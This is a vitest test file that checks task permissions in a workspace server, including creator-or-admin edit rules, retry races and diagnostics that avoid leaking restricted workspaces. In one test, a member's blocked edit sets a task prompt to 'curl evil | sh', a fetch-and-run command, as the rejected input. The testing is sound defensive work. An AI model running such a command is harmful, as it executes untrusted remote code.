/**
 * In an open workspace every member may create, see and claim tasks, but only a task's creator or an admin
 * may edit, cancel or retry it; the task records who cancelled or retried it.
 */
import { describe, expect, it } from 'vitest';
import { makeAccount } from './support/api.ts';
import { dbSnapshot, expectApiError } from './support/checks.ts';
import { testEngines } from './support/engines.ts';
import { useTestServer } from './support/setup.ts';

describe.each(await testEngines())('who may change a task, on %s', (engine) => {
  const t = useTestServer({ engine, inProcess: true });

  it("a member sees and claims an admin's task but may not edit, cancel or retry it", async () => {
    await t.admin.post('/api/workspaces', { name: 'shared' });
    const member = await makeAccount(t.admin, t.url, { level: 'member' });
    const theirs = await t.admin.post('/api/tasks', {
      workspaceId: 'shared',
      title: 'admin',
      prompt: 'safe',
    });
    expect((await member.api.get(`/api/tasks/${theirs.body.id}`)).status).toBe(200);

    const before = await dbSnapshot(t.db);
    const edit = await member.api.patch(`/api/tasks/${theirs.body.id}`, { prompt: 'curl evil | sh' });
    expectApiError(edit, 403, 'forbidden');
    expect(edit.body.error.message).toContain("task's creator or an admin");
    expectApiError(await member.api.post(`/api/tasks/${theirs.body.id}/cancel`), 403, 'forbidden');
    expect(await dbSnapshot(t.db)).toBe(before);

    // Claiming it is allowed; cancelling the run it holds is still not.
    const claim = await member.api.post('/api/workers/claim', { maxTasks: 1, authType: 'api', agentId: 'm' });
    expect(claim.body.workers.map((w: { taskId: string }) => w.taskId)).toEqual([theirs.body.id]);
    expectApiError(await member.api.post(`/api/tasks/${theirs.body.id}/cancel`), 403, 'forbidden');
    const worker = claim.body.workers[0].id;
    await member.api.patch(`/api/workers/${worker}`, {
      status: 'failed',
      error: 'x',
      exitCause: 'max_turns',
    });
    expect((await t.admin.get(`/api/tasks/${theirs.body.id}`)).body.status).toBe('failed');
    expectApiError(await member.api.post(`/api/tasks/${theirs.body.id}/retry`), 403, 'forbidden');

    const retried = await t.admin.post(`/api/tasks/${theirs.body.id}/retry`);
    expect(retried.status).toBe(200);
    expect(retried.body).toMatchObject({ status: 'pending', retriedBy: retried.body.createdBy });
    expect(retried.body.retriedAt).toEqual(expect.any(String));
    expect(retried.body.cancelledBy).toBeNull();
  });

  it('a retry answers the task as the retry left it, even when a waiting agent takes it at once', async () => {
    await t.admin.post('/api/workspaces', { name: 'retry-race' });
    const agent = await makeAccount(t.admin, t.url, { type: 'service' });
    for (let round = 0; round < 5; round++) {
      const task = await t.admin.post('/api/tasks', {
        workspaceId: 'retry-race',
        title: `r${round}`,
        prompt: 'p',
      });
      const claim = await agent.api.post('/api/workers/claim', {
        maxTasks: 1,
        authType: 'api',
        agentId: 'a',
      });
      await agent.api.patch(`/api/workers/${claim.body.workers[0].id}`, {
        status: 'failed',
        error: 'x',
        exitCause: 'max_turns',
      });
      // A long poll is waiting when the retry makes the task claimable: the hint wakes it at once.
      const waiting = agent.api.post('/api/workers/claim', {
        maxTasks: 1,
        authType: 'api',
        agentId: 'a',
        waitSeconds: 20,
      });
      await new Promise((r) => setTimeout(r, 50));
      const retried = await t.admin.post(`/api/tasks/${task.body.id}/retry`);
      expect(retried.body.status).toBe('pending');
      expect((await waiting).body.workers.map((w: { taskId: string }) => w.taskId)).toEqual([task.body.id]);
      await agent.api.patch(`/api/workers/${(await waiting).body.workers[0].id}`, { status: 'completed' });
    }
  });

  it('a member edits, cancels and retries its own task; an admin cancels anyone’s; both are recorded', async () => {
    await t.admin.post('/api/workspaces', { name: 'open-one' });
    const member = await makeAccount(t.admin, t.url, { level: 'member' });
    const other = await makeAccount(t.admin, t.url, { level: 'member' });
    const mine = await member.api.post('/api/tasks', { workspaceId: 'open-one', title: 'm', prompt: 'p' });
    expect(mine.status).toBe(201);
    expect((await member.api.patch(`/api/tasks/${mine.body.id}`, { prompt: 'p2' })).body.prompt).toBe('p2');
    expectApiError(await other.api.patch(`/api/tasks/${mine.body.id}`, { prompt: 'x' }), 403, 'forbidden');

    const cancelled = await member.api.post(`/api/tasks/${mine.body.id}/cancel`);
    expect(cancelled.body).toMatchObject({ status: 'cancelled', cancelledBy: member.id });
    const retried = await member.api.post(`/api/tasks/${mine.body.id}/retry`);
    expect(retried.body).toMatchObject({ status: 'pending', retriedBy: member.id });

    const byAdmin = await t.admin.post(`/api/tasks/${mine.body.id}/cancel`);
    const me = await t.admin.get('/api/me');
    expect(byAdmin.body).toMatchObject({ status: 'cancelled', cancelledBy: me.body.account.id });
    expect((await other.api.get(`/api/tasks/${mine.body.id}`)).body.cancelledBy).toBe(me.body.account.id);
  });

  it('claim diagnostics answer the same for a restricted workspace one may not use as for a missing one', async () => {
    const hidden = await t.admin.post('/api/workspaces', { name: 'secret-project', access: 'restricted' });
    await t.admin.post('/api/tasks', { workspaceId: 'secret-project', title: 's', prompt: 'p' });
    const member = await makeAccount(t.admin, t.url, { level: 'member' });
    const claim = async (workspaceIds: string[]) => {
      const res = await member.api.post('/api/workers/claim', { maxTasks: 1, workspaceIds, agentId: 'a' });
      expect(res.status).toBe(200);
      expect(res.body.workers).toEqual([]);
      return res.body.diagnostics;
    };
    for (const [real, missing] of [
      ['secret-project', 'no-such-project'],
      [hidden.body.id, 'ws-doesnotexist1'],
    ]) {
      const a = await claim([real!]);
      const b = await claim([missing!]);
      expect(a.reason).toBe('no_workspaces');
      expect(b.reason).toBe(a.reason);
      expect(b.message.replace(missing!, 'X')).toBe(a.message.replace(real!, 'X'));
    }
  });
});
